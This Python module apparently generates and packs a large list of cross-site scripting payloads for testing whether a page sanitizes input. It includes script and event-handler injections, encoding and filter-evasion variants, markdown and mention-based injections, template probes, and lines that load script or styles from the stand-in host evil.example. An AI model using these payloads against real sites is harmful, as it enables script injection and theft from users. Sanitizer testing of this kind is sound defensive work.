"""Texts that would run something if a page let them: combined from ways to begin, things to run and ways to hide them.

Rule: whatever runs opens a dialog or asks another host, and the browser under test notices both.
"""

from __future__ import annotations

from collections.abc import Iterable

RUN = "alert(1)"
_HANDLERS = (
    "onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onstart", "onanimationstart", "onpageshow",
    "onbegin", "onpointerenter", "onwheel", "onscroll", "onbeforeinput", "oncut",
)  # fmt: skip
_ELEMENTS = (
    "<img src=x {0}={1}>", "<svg {0}={1}>", "<body {0}={1}>", "<details open {0}={1}>x", "<input autofocus {0}={1}>",
    "<video src=x {0}={1}></video>", "<a href=# {0}={1}>x</a>", "<marquee {0}={1}>x</marquee>",
)  # fmt: skip
_SCRIPTS = (
    "<script>{0}</script>", "<SCRIPT>{0}</SCRIPT>", "<script >{0}</script >", "<scr<script>ipt>{0}</scr</script>ipt>",
    "<script/x>{0}</script>", "<script src=//evil.example/x.js></script>", "<script src=data:,{0}></script>",
    "</script><script>{0}</script>", "<<script>{0}//<</script>", "<script\x0c>{0}</script>", "<script\n>{0}</script\n>",
    "</textarea><script>{0}</script>", "</title><script>{0}</script>", "</style><script>{0}</script>", "--><script>{0}</script>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>", "<template><script>{0}</script></template>",
    "<svg><script>{0}</script></svg>", "<svg><script href=data:,{0} />", "<math><mtext><script>{0}</script></mtext></math>",
    "\"><script>{0}</script>", "'><script>{0}</script>", "]]><script>{0}</script>", "<![CDATA[<script>{0}</script>]]>",
    "<!--<script>{0}</script>-->", "<?xml version='1.0'?><script>{0}</script>", "<%00script>{0}</%00script>",
    "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;", "\\x3cscript\\x3e{0}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e", "%3Cscript%3E{0}%3C/script%3E", "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
)  # fmt: skip
_FRAMES = (
    "<iframe src=javascript:{0}>", "<iframe srcdoc='<script>{0}</script>'>", "<iframe src=//evil.example></iframe>",
    "<object data=javascript:{0}>", "<object data=data:text/html,<script>{0}</script>>", "<embed src=javascript:{0}>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example/x>",
    "<form action=javascript:{0}><button>x</button></form>", "<button formaction=javascript:{0}>x</button>",
    "<form id=csrf-form><input name=csrf_token></form>", "<img name=body id=io>", "<a id=main href=x>x</a>",
    "<svg><a xlink:href=javascript:{0}><text y=9>x</text></a></svg>", "<svg><use href=data:image/svg+xml,x#x></svg>",
    "<svg><animate attributeName=href values=javascript:{0}>", "<math href=javascript:{0}>x</math>",
    "<style>@import '//evil.example/x.css';</style>", "<p style='background:url(javascript:{0})'>x</p>",
    "<div style='width:expression({0})'>x</div>", "<table background=javascript:{0}>", "<isindex action=javascript:{0}>",
    "<frameset onload={0}>", "<applet code=javascript:{0}>", "<audio src=x onerror={0}>", "<select autofocus onfocus={0}>",
    "<keygen autofocus onfocus={0}>", "<portal src=javascript:{0}>", "<dialog open onclose={0}>x", "<slot onslotchange={0}>",
)  # fmt: skip
_ADDRESSES = (
    "javascript:{0}", "JaVaScRiPt:{0}", "java\tscript:{0}", "java\nscript:{0}", " javascript:{0}", "\x01javascript:{0}",
    "javascript&colon;{0}", "javascript&#58;{0}", "&#x6A;avascript:{0}", "&#0000106avascript:{0}", "javascript:/*-->*/{0}",
    "javascript://%0a{0}", "vbscript:msgbox(1)", "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={0}>", "livescript:{0}",
    "feed:javascript:{0}", "view-source:javascript:{0}", "//evil.example", "\\\\evil.example", "https:javascript:{0}",
)  # fmt: skip
_LINKS = ("[x]({0})", "[x](<{0}>)", "<{0}>", "![x]({0})", "[x][1]\n\n[1]: {0}", "[x]({0} \"t\")")  # fmt: skip
_MARKDOWN = (
    "[x](https://a.example \"onmouseover={0}\")", "[x](https://a.example \"><script>{0}</script>\")", "![x](x\"onerror=\"{0})",
    "[<img src=x onerror={0}>](https://a.example)", "<https://a.example/\"onclick={0}>", "https://a.example/?\"onclick={0}",
    "```<script>{0}</script>\n<script>{0}</script>\n```", "```\"onload={0}\nx\n```", "`<script>{0}</script>`",
    "| <script>{0}</script> | \"onload={0} |\n|--|--|\n| <img src=x onerror={0}> | x |", "# <script>{0}</script>",
    "> <svg onload={0}>", "1. <svg onload={0}>", "[^\"onload={0}]\n\n[^\"onload={0}]: <script>{0}</script>",
    "x[^1]\n\n[^1]: <img src=x onerror={0}> [y](javascript:{0})", "[lab <script> 1 <img (2-3)]", "[lab Na 1 \"onload={0} (1-2)]",
    "[lab A<svg/onload={0}> 12 mmol/L (1-2)]", "@[<img src=x onerror={0}>](user:1)", "@[x\"onclick={0}](user:2)",
    "@[x](user:1)\"onload={0}", "@[x](javascript:{0})", "**<script>{0}</script>**", "~~<svg onload={0}>~~", "<!-- \n--><svg onload={0}>",
    "\\<script\\>{0}\\</script\\>", "[a]: javascript:{0}\n[a]", "a@b.example\"onclick={0}", "www.a.example/\"onclick={0}",
    "{{{{7*7}}}} {{% raw %}} ${{7*7}} #{{7*7}}", "=HYPERLINK(\"//evil.example\")", "\u202etpircs\u202c<svg onload={0}>",
)  # fmt: skip


def hostile_texts() -> list[str]:
    """Return all texts, each once, in the same order every time."""
    made = [one.format(RUN) for one in (*_SCRIPTS, *_FRAMES, *_MARKDOWN)]
    made += [_ELEMENTS[index % len(_ELEMENTS)].format(name, RUN) for index, name in enumerate(_HANDLERS * 3)]
    addresses = [one.format(RUN) for one in _ADDRESSES]
    made += [link.format(address) for index, address in enumerate(addresses) for link in _LINKS[index % 2 :: 2]]
    made += [f'" {name}={RUN} x="' for name in _HANDLERS] + [f"' {name}={RUN} x='" for name in _HANDLERS[:5]]
    return list(dict.fromkeys(made))


def packed(limit: int, between: str = " ", texts: Iterable[str] | None = None) -> list[str]:
    """Return all texts joined into as few as fit into *limit* characters; one that is longer alone is left out."""
    packs: list[str] = []
    for text in texts if texts is not None else hostile_texts():
        if len(text) > limit:
            continue
        if packs and len(packs[-1]) + len(between) + len(text) <= limit:
            packs[-1] += between + text
        else:
            packs.append(text)
    return packs
